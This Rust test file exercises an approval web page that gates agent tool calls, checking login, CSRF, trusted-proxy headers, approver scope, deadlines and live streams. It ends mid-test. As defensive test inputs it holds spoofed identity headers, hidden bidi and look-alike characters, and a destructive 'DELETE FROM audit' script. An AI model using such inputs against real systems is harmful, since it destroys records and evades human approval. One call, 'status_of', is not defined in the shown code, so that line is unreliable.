//! The web approvals page and inline stream over real HTTP on 127.0.0.1:
//! operators sign in with a token (stored as an Argon2 hash) or through a
//! trusted proxy header, see only the requests in their approver scope,
//! and decide them with a CSRF token; the streams deliver new requests and
//! decisions live.
//!
//! Negative tests: a wrong token, an expired session, the trusted header
//! from an address that is not the proxy, a missing or wrong CSRF token, a
//! decision out of scope, a second decision, a decision after the deadline.
//! A pending request survives a restart and is decided on the new page.
//! Another channel's (Feishu's) requests show read-only, live, to the
//! operators allowed to watch it, and the page cannot decide them; a
//! flood of requests out of scope does not hide an operator's own; cut
//! arguments are decided only with the digest the detail showed; a
//! stranger cannot lock an operator out; `channel: web` builds from config.

mod support;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use hooks_runtime::{HookContext, ToolCallReport};
use hooks_std::Database;
use hooks_std::approval_gate::channel::web::{TrustedHeaderAuth, WebConfig};
use hooks_std::approval_gate::{
    ApproverScope, ConfirmationMode, ConfirmationRequest, ConfirmationStatus, NewConfirmation,
};
use reqwest::StatusCode;
use reqwest::header::{COOKIE, SET_COOKIE};
use serde_json::{Value, json};
use support::web::{
    FEISHU_CHAT, Page, call_with, directory, feishu_gate, org_scope, page, page_configured,
    page_on_channel, page_with, page_with_directory, start, tokens,
};
use tokio::task::JoinHandle;

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(20))
        .build()
        .expect("client")
}

fn call(call_id: &str, agent: &str, user: &str) -> HookContext {
    call_with(
        call_id,
        agent,
        user,
        json!({"amount": 60_000, "payee": "ACME Ltd"}),
    )
}

/// The `Set-Cookie` lines of a response.
fn set_cookies(response: &reqwest::Response) -> Vec<String> {
    response
        .headers()
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|value| value.to_str().ok().map(str::to_owned))
        .collect()
}

/// `name=value` of cookie `name` in `Set-Cookie` lines.
fn cookie_pair(lines: &[String], name: &str) -> Option<String> {
    lines
        .iter()
        .find(|line| line.starts_with(&format!("{name}=")))
        .map(|line| line.split(';').next().unwrap_or_default().to_owned())
}

/// The value of the first hidden `csrf` field of a page.
fn csrf_field(html: &str) -> String {
    let at = html.find("name=\"csrf\" value=\"").expect("a csrf field") + 19;
    html[at..].split('"').next().unwrap_or_default().to_owned()
}

/// Posts the login form; the response (not followed).
async fn try_login(page: &Page, operator: &str, token: &str) -> reqwest::Response {
    try_login_from(page, operator, token, Ipv4Addr::LOCALHOST).await
}

/// [`try_login`] from the loopback address `from` (e.g. 127.0.0.2).
async fn try_login_from(
    page: &Page,
    operator: &str,
    token: &str,
    from: Ipv4Addr,
) -> reqwest::Response {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(60))
        .local_address(IpAddr::V4(from))
        .build()
        .expect("client");
    let form = client
        .get(format!("{}/login", page.callback_url))
        .send()
        .await
        .expect("login form");
    assert_eq!(form.status(), StatusCode::OK);
    let login_cookie =
        cookie_pair(&set_cookies(&form), "hooks_approvals_login").expect("login cookie");
    let csrf = csrf_field(&form.text().await.expect("body"));
    client
        .post(format!("{}/login", page.callback_url))
        .header(COOKIE, login_cookie)
        .form(&[("operator", operator), ("token", token), ("csrf", &csrf)])
        .send()
        .await
        .expect("login")
}

/// A signed-in operator: their session cookie and CSRF token.
struct Session {
    cookie: String,
    csrf: String,
}

async fn login(page: &Page, operator: &str) -> Session {
    let response = try_login(page, operator, &format!("{operator}-token")).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let cookie =
        cookie_pair(&set_cookies(&response), "hooks_approvals_session").expect("a session cookie");
    let (status, list) = get_json(page, &cookie, "/api/requests").await;
    assert_eq!(status, StatusCode::OK, "{list}");
    Session {
        cookie,
        csrf: list["csrf_token"].as_str().expect("csrf token").to_owned(),
    }
}

/// `GET {page}{path}` with `cookie`.
async fn get_as(page: &Page, cookie: &str, path: &str) -> reqwest::Response {
    client()
        .get(format!("{}{path}", page.callback_url))
        .header(COOKIE, cookie)
        .send()
        .await
        .expect("get")
}

/// `POST {page}{path}` with `cookie` and a form body.
async fn post_form_as(
    page: &Page,
    cookie: &str,
    path: &str,
    form: &(impl serde::Serialize + ?Sized),
) -> reqwest::Response {
    client()
        .post(format!("{}{path}", page.callback_url))
        .header(COOKIE, cookie)
        .form(form)
        .send()
        .await
        .expect("post")
}

async fn get_json(page: &Page, cookie: &str, path: &str) -> (StatusCode, Value) {
    let response = get_as(page, cookie, path).await;
    let status = response.status();
    (status, response.json().await.unwrap_or(Value::Null))
}

async fn pending_ids(page: &Page, session: &Session, query: &str) -> Vec<String> {
    let (status, list) = get_json(page, &session.cookie, &format!("/api/requests{query}")).await;
    assert_eq!(status, StatusCode::OK, "{list}");
    list["pending"]
        .as_array()
        .expect("pending")
        .iter()
        .map(|view| view["id"].as_str().expect("id").to_owned())
        .collect()
}

async fn decide(
    page: &Page,
    session: &Session,
    csrf: Option<&str>,
    id: &str,
    decision: &str,
    reason: Option<&str>,
) -> (StatusCode, Value) {
    let mut request = client()
        .post(format!("{}/api/requests/{id}/decide", page.callback_url))
        .header(COOKIE, &session.cookie)
        .json(&json!({"decision": decision, "reason": reason}));
    if let Some(csrf) = csrf {
        request = request.header("x-csrf-token", csrf);
    }
    let response = request.send().await.expect("decide");
    let status = response.status();
    (status, response.json().await.unwrap_or(Value::Null))
}

/// A pending request of alice's written straight to the store, as another
/// process's gate (or one that died since) would have left it.
async fn stored_request(page: &Page, key: &str, timeout: Duration) -> ConfirmationRequest {
    stored(page, key, "alice", "acme", timeout).await
}

/// A pending request of `user` (org `org`, org-member scope) written
/// straight to the store, deciding within `timeout`.
async fn stored(
    page: &Page,
    key: &str,
    user: &str,
    org: &str,
    timeout: Duration,
) -> ConfirmationRequest {
    let (request, _) = page
        .approvals
        .store()
        .create(&NewConfirmation {
            idempotency_key: key.into(),
            tool_name: "oa__purchase_pay".into(),
            args: json!({"amount": 1}),
            args_digest: "d".into(),
            agent_id: "finance-bot".into(),
            initiator_user_id: user.into(),
            org_id: org.into(),
            approver_scope: ApproverScope::OrgMembers,
            approver_allowlist: vec![],
            channel_kind: "web".into(),
            channel_id: "approvals".into(),
            mode: ConfirmationMode::Metadata,
            timeout,
            quorum: hooks_std::approval_gate::Quorum::default(),
        })
        .await
        .expect("create");
    request
}

/// A page with alice and bob signed in and alice's payment waiting:
/// the page, both sessions, the call, and its request id.
async fn waiting_payment() -> (Page, Session, Session, JoinHandle<ToolCallReport>, String) {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let bob = login(&page, "bob").await;
    let call = start(&page, call("c1", "finance-bot", "alice"));
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    (page, alice, bob, call, id)
}

/// Waits until a request is pending (its card, the row, is "sent").
async fn wait_pending(page: &Page, session: &Session, count: usize) -> Vec<String> {
    let until = Instant::now() + Duration::from_secs(10);
    loop {
        let ids = pending_ids(page, session, "").await;
        if ids.len() >= count {
            return ids;
        }
        assert!(Instant::now() < until, "no pending request appeared");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn status(page: &Page, id: &str) -> ConfirmationStatus {
    page.approvals
        .store()
        .get(id)
        .await
        .expect("read")
        .expect("request")
        .status
}

/// A Server-Sent Events reader over a real HTTP response.
struct Events {
    response: reqwest::Response,
    buffer: String,
}

impl Events {
    async fn open(page: &Page, session: &Session, query: &str) -> Events {
        let response = get_as(page, &session.cookie, &format!("/api/stream{query}")).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap_or_default()
                .starts_with("text/event-stream")
        );
        Events {
            response,
            buffer: String::new(),
        }
    }

    /// Whether the server ends the stream within `within` (events before
    /// the end are skipped).
    async fn ends_within(&mut self, within: Duration) -> bool {
        let deadline = tokio::time::Instant::now() + within;
        loop {
            match tokio::time::timeout_at(deadline, self.response.chunk()).await {
                Err(_) => return false,
                Ok(Ok(None) | Err(_)) => return true,
                Ok(Ok(Some(chunk))) => self.buffer.push_str(&String::from_utf8_lossy(&chunk)),
            }
        }
    }

    /// The next event (name, data) within `within`, or `None`.
    async fn next(&mut self, within: Duration) -> Option<(String, Value)> {
        let deadline = tokio::time::Instant::now() + within;
        loop {
            if let Some(end) = self.buffer.find("\n\n") {
                let block: String = self.buffer.drain(..end + 2).collect();
                let mut name = String::from("message");
                let mut data = String::new();
                for line in block.lines() {
                    if let Some(value) = line.strip_prefix("event:") {
                        name = value.trim().to_owned();
                    } else if let Some(value) = line.strip_prefix("data:") {
                        data.push_str(value.trim_start());
                    }
                }
                if data.is_empty() {
                    continue; // a keep-alive comment
                }
                return Some((name, serde_json::from_str(&data).expect("JSON data")));
            }
            let chunk = tokio::time::timeout_at(deadline, self.response.chunk())
                .await
                .ok()?
                .expect("stream read")?;
            self.buffer.push_str(&String::from_utf8_lossy(&chunk));
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_with_a_wrong_token_is_refused() {
    let page = page().await;
    for (operator, token) in [
        ("alice", "bob-token"),
        ("alice", ""),
        ("nobody", "alice-token"),
        ("alice", "alice-token\u{200B}"),
    ] {
        let response = try_login(&page, operator, token).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{operator}");
        assert_eq!(
            cookie_pair(&set_cookies(&response), "hooks_approvals_session"),
            None
        );
        assert!(
            response
                .text()
                .await
                .expect("body")
                .contains("Wrong operator or token")
        );
    }
    // A login form not served by this page (no matching double-submit cookie).
    let forged = client()
        .post(format!("{}/login", page.callback_url))
        .form(&[
            ("operator", "alice"),
            ("token", "alice-token"),
            ("csrf", "x"),
        ])
        .send()
        .await
        .expect("post");
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        cookie_pair(&set_cookies(&forged), "hooks_approvals_session"),
        None
    );
    // Nothing is readable without a session.
    let (status, _) = get_json(&page, "hooks_approvals_session=made-up", "/api/requests").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let home = client().get(&page.callback_url).send().await.expect("home");
    assert_eq!(home.status(), StatusCode::SEE_OTHER);
    assert_eq!(home.headers()["location"], "/approvals/login");

    // The right token: a session cookie the page's script cannot read, sent
    // only to this site, expiring with the session.
    let response = try_login(&page, "alice", "alice-token").await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let line = set_cookies(&response)
        .into_iter()
        .find(|line| line.starts_with("hooks_approvals_session="))
        .expect("session cookie");
    for attribute in [
        "HttpOnly",
        "SameSite=Strict",
        "Path=/approvals",
        "Max-Age=28800",
    ] {
        assert!(line.contains(attribute), "{line} lacks {attribute}");
    }
    assert!(!line.contains("Secure"), "plain HTTP here: {line}");

    // Behind TLS the cookie is `Secure`.
    let tls = page_configured(WebConfig {
        secure_cookies: true,
        ..WebConfig::default()
    })
    .await;
    let response = try_login(&tls, "alice", "alice-token").await;
    assert!(
        set_cookies(&response)
            .iter()
            .all(|line| line.contains("; Secure"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_session_is_refused() {
    let page = page_configured(WebConfig {
        session_ttl: Duration::from_millis(800),
        ..WebConfig::default()
    })
    .await;
    let alice = login(&page, "alice").await;
    let mut events = Events::open(&page, &alice, "").await;
    assert_eq!(
        events
            .next(Duration::from_secs(5))
            .await
            .expect("snapshot")
            .0,
        "snapshot"
    );
    tokio::time::sleep(Duration::from_millis(1000)).await;
    let (status, _) = get_json(&page, &alice.cookie, "/api/requests").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let home = get_as(&page, &alice.cookie, "").await;
    assert_eq!(
        home.status(),
        StatusCode::SEE_OTHER,
        "back to the login form"
    );
    // An open stream ends at its next event once the session is gone.
    let call = start(&page, call("c1", "finance-bot", "alice"));
    let (name, _) = events.next(Duration::from_secs(5)).await.expect("an event");
    assert_eq!(name, "signed_out");
    // A decision with the old session and its token is refused.
    let id = page
        .approvals
        .store()
        .by_key("6:conv-1:c1")
        .await
        .expect("read")
        .expect("the request that ended the stream")
        .id;
    let (status, _) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(self::status(&page, &id).await, ConfirmationStatus::Pending);
    call.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_trusted_header_is_refused_from_an_untrusted_address() {
    let proxy = IpAddr::V4(Ipv4Addr::new(10, 9, 9, 9));
    let database = Database::in_memory().await.expect("db");
    let elsewhere = page_with(
        database,
        org_scope(),
        Arc::new(TrustedHeaderAuth::new("x-forwarded-user", [proxy])),
        WebConfig::default(),
    )
    .await;
    // 127.0.0.1 is not the proxy: naming yourself in the header gets nothing.
    for path in ["/api/requests", "/api/stream", ""] {
        let response = client()
            .get(format!("{}{path}", elsewhere.callback_url))
            .header("x-forwarded-user", "alice")
            .send()
            .await
            .expect("get");
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{path}");
    }
    let forged = client()
        .post(format!("{}/api/requests/x/decide", elsewhere.callback_url))
        .header("x-forwarded-user", "alice")
        .json(&json!({"decision": "approve"}))
        .send()
        .await
        .expect("post");
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);

    // From the proxy's address the header names the operator; a missing or
    // doubled header is refused.
    let database = Database::in_memory().await.expect("db");
    let behind = page_with(
        database,
        org_scope(),
        Arc::new(TrustedHeaderAuth::new(
            "x-forwarded-user",
            [IpAddr::V4(Ipv4Addr::LOCALHOST)],
        )),
        WebConfig::default(),
    )
    .await;
    let list: Value = client()
        .get(format!("{}/api/requests", behind.callback_url))
        .header("x-forwarded-user", "alice")
        .send()
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert_eq!(list["operator"], "alice");
    let missing = client()
        .get(format!("{}/api/requests", behind.callback_url))
        .send()
        .await
        .expect("get");
    assert_eq!(missing.status(), StatusCode::FORBIDDEN);
    let doubled = client()
        .get(format!("{}/api/requests", behind.callback_url))
        .header("x-forwarded-user", "mallory")
        .header("x-forwarded-user", "alice")
        .send()
        .await
        .expect("get");
    assert_eq!(doubled.status(), StatusCode::FORBIDDEN);
    // The login form is not offered in this mode.
    let login = client()
        .get(format!("{}/login", behind.callback_url))
        .send()
        .await
        .expect("get");
    assert_eq!(login.status(), StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_or_wrong_csrf_token_is_refused() {
    let (page, alice, bob, call, id) = waiting_payment().await;

    // JSON: no token, a wrong one, and another operator's.
    for csrf in [None, Some("0000"), Some(""), Some(bob.csrf.as_str())] {
        let (status, body) = decide(&page, &alice, csrf, &id, "approve", None).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{csrf:?}: {body}");
    }
    // The page's form: no token, a wrong one.
    for form in [
        vec![("decision", "approve")],
        vec![("decision", "approve"), ("csrf", "0000")],
    ] {
        let response = post_form_as(
            &page,
            &alice.cookie,
            &format!("/requests/{id}/decide"),
            &form,
        )
        .await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
    }
    // Signing out needs it too.
    let response = post_form_as(&page, &alice.cookie, "/logout", &[("", ""); 0]).await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert_eq!(status(&page, &id).await, ConfirmationStatus::Pending);

    // With the token, the form decides (and redirects back to the list).
    let response = post_form_as(
        &page,
        &alice.cookie,
        &format!("/requests/{id}/decide"),
        &[
            ("decision", "approve"),
            ("csrf", alice.csrf.as_str()),
            ("reason", "within budget"),
        ],
    )
    .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(response.headers()["location"], "/approvals?done=approved");
    let report = tokio::time::timeout(Duration::from_secs(10), call)
        .await
        .expect("the call resumes")
        .expect("task");
    assert!(report.tool_ran, "{}", report.observation);
    let decided = page
        .approvals
        .store()
        .get(&id)
        .await
        .expect("read")
        .expect("row");
    assert_eq!(decided.decided_by.as_deref(), Some("alice"));
    assert_eq!(decided.channel_kind, "web");
    assert_eq!(decided.reason.as_deref(), Some("within budget"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_out_of_scope_neither_sees_nor_decides() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let mallory = login(&page, "mallory").await; // another org
    let carol = login(&page, "carol").await; // signed in, but not in the directory
    let call = start(
        &page,
        call_with(
            "c1",
            "finance-bot",
            "alice",
            json!({"payee": "ACME\u{202E}dtL", "amount": 1}),
        ),
    );
    let id = wait_pending(&page, &alice, 1).await.remove(0);

    // Mallory (out of scope) is told no such request exists; carol (no
    // approver at all) that she is not one.
    for (outsider, refused) in [
        (&mallory, StatusCode::NOT_FOUND),
        (&carol, StatusCode::FORBIDDEN),
    ] {
        assert!(pending_ids(&page, outsider, "").await.is_empty());
        for decision in ["approve", "reject"] {
            let (status, body) =
                decide(&page, outsider, Some(&outsider.csrf), &id, decision, None).await;
            assert_eq!(status, refused, "{body}");
            assert_eq!(body["outcome"], "refused");
        }
        // The page's form too.
        let response = post_form_as(
            &page,
            &outsider.cookie,
            &format!("/requests/{id}/decide"),
            &[("decision", "approve"), ("csrf", outsider.csrf.as_str())],
        )
        .await;
        assert_eq!(response.headers()["location"], "/approvals?done=refused");
        // Nor does their stream carry it.
        let mut events = Events::open(&page, outsider, "").await;
        let (_, snapshot) = events.next(Duration::from_secs(5)).await.expect("snapshot");
        assert_eq!(snapshot["pending"], json!([]));
        for path in [
            "".to_owned(),
            format!("/requests/{id}"),
            format!("/fragments/requests/{id}"),
        ] {
            let html = get_as(&page, &outsider.cookie, &path)
                .await
                .text()
                .await
                .expect("body");
            assert!(
                !html.contains(&id),
                "{path} shows the request to an outsider"
            );
        }
    }
    assert_eq!(status(&page, &id).await, ConfirmationStatus::Pending);

    // Alice sees it, with the hidden character written out and flagged.
    let html = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("body");
    assert!(html.contains(&id));
    assert!(html.contains("ACME\\u202EdtL"), "{html}");
    assert!(!html.contains('\u{202E}'));
    assert!(html.contains("contains hidden characters"));
    // And its detail, with the decision form.
    let detail = get_as(&page, &alice.cookie, &format!("/requests/{id}")).await;
    assert_eq!(detail.status(), StatusCode::OK);
    let detail = detail.text().await.expect("body");
    assert!(
        detail.contains(&format!("/requests/{id}/decide")),
        "{detail}"
    );
    assert!(detail.contains("ACME\\u202EdtL"));
    call.abort();
}

/// A request whose values hold look-alike letters (or hidden characters)
/// is flagged, and, like one whose arguments the list cuts, is decided only
/// with the digest its own page shows: no one-click decision from the list.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flagged_request_is_decided_only_from_its_own_page() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    // A Cyrillic А among Latin letters.
    let args = json!({"payee": "\u{410}cme Components", "amount": 1});
    let call = start(&page, call_with("c-look", "finance-bot", "alice", args));
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let (_, list) = get_json(&page, &alice.cookie, "/api/requests").await;
    let listed = &list["pending"][0];
    assert_eq!(listed["look_alikes"], true, "{listed}");
    assert_eq!(listed["detail_only"], true, "{listed}");
    assert_eq!(listed["args_digest"], Value::Null, "{listed}");
    for decision in ["approve", "reject"] {
        let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, decision, None).await;
        assert_eq!(status, StatusCode::CONFLICT, "{body}");
    }
    let html = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("body");
    assert!(html.contains("contains look-alike letters"), "{html}");
    assert!(
        !html.contains("class=\"approve\""),
        "no Approve on the list"
    );
    assert_eq!(status_of(&page, &id).await, ConfirmationStatus::Pending);
    let (code, detail) = get_json(&page, &alice.cookie, &format!("/api/requests/{id}")).await;
    assert_eq!(code, StatusCode::OK, "{detail}");
    let digest = detail["request"]["args_digest"]
        .as_str()
        .expect("digest")
        .to_owned();
    let response = client()
        .post(format!("{}/api/requests/{id}/decide", page.callback_url))
        .header(COOKIE, &alice.cookie)
        .header("x-csrf-token", &alice.csrf)
        .json(&json!({"decision": "approve", "args_digest": digest}))
        .send()
        .await
        .expect("decide");
    assert_eq!(response.status(), StatusCode::OK);
    assert!(call.await.expect("task").tool_ran);
}

/// A multi-line script is shown as its lines under its key, each marked,
/// with hidden characters still escaped and flagged; the JSON keeps the
/// arguments as JSON.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_multi_line_argument_is_shown_as_lines() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let script = "UPDATE invoices SET paid = true;\nDELETE FROM audit;\u{202E}";
    let args = json!({"script": script, "amount": 1});
    let call = start(&page, call_with("c-lines", "finance-bot", "alice", args));
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let html = get_as(&page, &alice.cookie, &format!("/requests/{id}"))
        .await
        .text()
        .await
        .expect("body");
    assert!(html.contains("&quot;script&quot;: ⤶ 2 lines"), "{html}");
    assert!(
        html.contains("│ UPDATE invoices SET paid = true;\n"),
        "{html}"
    );
    assert!(html.contains("│ DELETE FROM audit;\\u202E"), "{html}");
    assert!(html.contains("contains hidden characters"), "{html}");
    assert!(!html.contains('\u{202E}'));
    let (_, detail) = get_json(&page, &alice.cookie, &format!("/api/requests/{id}")).await;
    let args = detail["request"]["args"].as_str().expect("args");
    assert!(
        args.contains(r#""script": "UPDATE invoices SET paid = true;\nDELETE"#),
        "{args}"
    );
    call.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_decision_changes_nothing() {
    let (page, alice, bob, call, id) = waiting_payment().await;

    let (status, body) = decide(&page, &bob, Some(&bob.csrf), &id, "reject", Some("no PO")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["outcome"], "decided");
    assert_eq!(body["request"]["status"], "rejected");
    for (who, decision) in [(&alice, "approve"), (&bob, "approve"), (&bob, "reject")] {
        let (status, body) = decide(&page, who, Some(&who.csrf), &id, decision, None).await;
        assert_eq!(status, StatusCode::CONFLICT, "{body}");
        assert_eq!(body["outcome"], "already_final");
    }
    let report = tokio::time::timeout(Duration::from_secs(10), call)
        .await
        .expect("the call resumes")
        .expect("task");
    assert!(!report.tool_ran);
    assert!(
        report.observation.to_string().contains("no PO"),
        "{}",
        report.observation
    );
    let row = page
        .approvals
        .store()
        .get(&id)
        .await
        .expect("read")
        .expect("row");
    assert_eq!(row.status, ConfirmationStatus::Rejected);
    assert_eq!(row.decided_by.as_deref(), Some("bob"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decision_after_the_deadline_is_refused() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    // A request whose gate died: still pending in the store, past its deadline.
    let request = stored_request(&page, "conv-9:c9", Duration::from_millis(300)).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(
        pending_ids(&page, &alice, "").await.is_empty(),
        "past its deadline, not listed"
    );
    let (status, body) = decide(
        &page,
        &alice,
        Some(&alice.csrf),
        &request.id,
        "approve",
        None,
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["outcome"], "expired");
    assert_eq!(
        self::status(&page, &request.id).await,
        ConfirmationStatus::Expired
    );

    // A gate that gave up waiting: expired, and stays so.
    let database = Database::in_memory().await.expect("db");
    let short = page_with(
        database,
        json!({"approver_scope": "org_members", "timeout": "1s"}),
        tokens(),
        WebConfig::default(),
    )
    .await;
    let alice = login(&short, "alice").await;
    let report = start(&short, call("c1", "finance-bot", "alice"))
        .await
        .expect("task");
    assert!(!report.tool_ran);
    let id = short
        .approvals
        .store()
        .by_key("6:conv-1:c1")
        .await
        .ok()
        .flatten()
        .map(|request| request.id);
    let id = match id {
        Some(id) => id,
        None => {
            let (_, body) = get_json(&short, &alice.cookie, "/api/requests").await;
            panic!("no request stored under the expected key: {body}");
        }
    };
    let (status, body) = decide(&short, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["outcome"], "expired");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_stream_delivers_a_new_request_and_its_decision_within_a_second() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let bob = login(&page, "bob").await;
    let mut events = Events::open(&page, &alice, "").await;
    let (name, snapshot) = events.next(Duration::from_secs(5)).await.expect("snapshot");
    assert_eq!(name, "snapshot");
    assert_eq!(snapshot["pending"], json!([]));

    let call = start(&page, call("c1", "finance-bot", "alice"));
    let (name, view) = events
        .next(Duration::from_secs(1))
        .await
        .expect("within 1 s");
    assert_eq!(name, "request");
    assert_eq!(view["tool"], "oa__purchase_pay");
    assert_eq!(view["agent"], "finance-bot");
    assert_eq!(view["user"], "alice");
    assert_eq!(view["status"], "pending");
    assert_eq!(view["hidden_characters"], false);
    let id = view["id"].as_str().expect("id").to_owned();

    // Decided elsewhere (bob, another session): alice's stream shows it.
    let (status, body) = decide(&page, &bob, Some(&bob.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (name, view) = loop {
        let (name, view) = events
            .next(Duration::from_secs(1))
            .await
            .expect("within 1 s");
        if name == "decided" {
            break (name, view);
        }
    };
    assert_eq!(name, "decided");
    assert_eq!(view["id"], id.as_str());
    assert_eq!(view["status"], "approved");
    assert_eq!(view["decided_by"], "bob");
    assert!(call.await.expect("task").tool_ran);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_inline_stream_shows_only_its_agent_and_user() {
    let page = page().await;
    let bob = login(&page, "bob").await; // org_members: bob may decide all of them
    let query = "?agent=finance-bot&user=alice";
    let theirs = start(&page, call("c1", "finance-bot", "alice"));
    let other_agent = start(&page, call("c2", "hr-bot", "alice"));
    let other_user = start(&page, call("c3", "finance-bot", "dave"));
    let all = wait_pending(&page, &bob, 3).await;
    assert_eq!(all.len(), 3);
    let listed = pending_ids(&page, &bob, query).await;
    assert_eq!(listed.len(), 1);

    let mut events = Events::open(&page, &bob, query).await;
    let (name, snapshot) = events.next(Duration::from_secs(5)).await.expect("snapshot");
    assert_eq!(name, "snapshot");
    let ids: Vec<&str> = snapshot["pending"]
        .as_array()
        .expect("pending")
        .iter()
        .map(|view| view["id"].as_str().expect("id"))
        .collect();
    assert_eq!(ids, listed);

    // New requests of other pairs never arrive; one of theirs does.
    let other = start(&page, call("c4", "hr-bot", "dave"));
    let mine = start(&page, call("c5", "finance-bot", "alice"));
    let (name, view) = events.next(Duration::from_secs(5)).await.expect("an event");
    assert_eq!(name, "request");
    assert_eq!(
        (view["agent"].as_str(), view["user"].as_str()),
        (Some("finance-bot"), Some("alice"))
    );
    assert!(
        events.next(Duration::from_millis(500)).await.is_none(),
        "nothing else"
    );

    // Half a filter is refused rather than widened.
    let (status, _) = get_json(&page, &bob.cookie, "/api/requests?agent=finance-bot").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    for task in [theirs, other_agent, other_user, other, mine] {
        task.abort();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_restart_pending_requests_are_listed_and_a_decision_is_honoured() {
    let (database, url, _dir) = support::sqlite_file().await;
    let first = page_with(database, org_scope(), tokens(), WebConfig::default()).await;
    let alice = login(&first, "alice").await;
    let call1 = start(&first, call("c1", "finance-bot", "alice"));
    let id = wait_pending(&first, &alice, 1).await.remove(0);
    call1.abort();
    drop(first);
    tokio::time::sleep(Duration::from_millis(100)).await;

    let database = Database::connect(&url).await.expect("reopen");
    let second = page_with(database, org_scope(), tokens(), WebConfig::default()).await;
    let bob = login(&second, "bob").await; // sessions do not survive; the requests do
    assert_eq!(pending_ids(&second, &bob, "").await, vec![id.clone()]);
    let (status, body) = decide(&second, &bob, Some(&bob.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // The agent re-runs the same call: the approval is honoured, once.
    let report = tokio::time::timeout(
        Duration::from_secs(10),
        start(&second, call("c1", "finance-bot", "alice")),
    )
    .await
    .expect("resumes at once")
    .expect("task");
    assert!(report.tool_ran, "{}", report.observation);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_and_decisions_of_another_process_reach_the_stream() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let mut events = Events::open(&page, &alice, "").await;
    let (name, _) = events.next(Duration::from_secs(5)).await.expect("snapshot");
    assert_eq!(name, "snapshot");
    // Another process's gate writes the request to the shared store: no
    // in-process event announces it.
    let request = stored_request(&page, "conv-7:c7", Duration::from_secs(60)).await;
    let (name, snapshot) = events
        .next(Duration::from_secs(10))
        .await
        .expect("a resync");
    assert_eq!(name, "snapshot");
    assert_eq!(snapshot["pending"][0]["id"], request.id.as_str());
    // And decides it there.
    page.approvals
        .store()
        .decide(
            &request.id,
            hooks_std::approval_gate::ApprovalDecision::Approve,
            "bob",
            None,
        )
        .await
        .expect("decide");
    // The decision itself, then the list without it.
    let (name, decided) = events
        .next(Duration::from_secs(10))
        .await
        .expect("the decision");
    assert_eq!(name, "decided");
    assert_eq!(decided["id"], request.id.as_str());
    assert_eq!(decided["status"], "approved");
    let (name, snapshot) = events
        .next(Duration::from_secs(10))
        .await
        .expect("a resync");
    assert_eq!(name, "snapshot");
    assert_eq!(snapshot["pending"], json!([]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_lists_and_decides_on_postgres() {
    let Some(database) = support::postgres("the_page_lists_and_decides_on_postgres").await else {
        return;
    };
    let channel = support::unique("web");
    let page = page_on_channel(
        &channel,
        database,
        org_scope(),
        tokens(),
        WebConfig::default(),
    )
    .await;
    let alice = login(&page, "alice").await;
    let bob = login(&page, "bob").await;
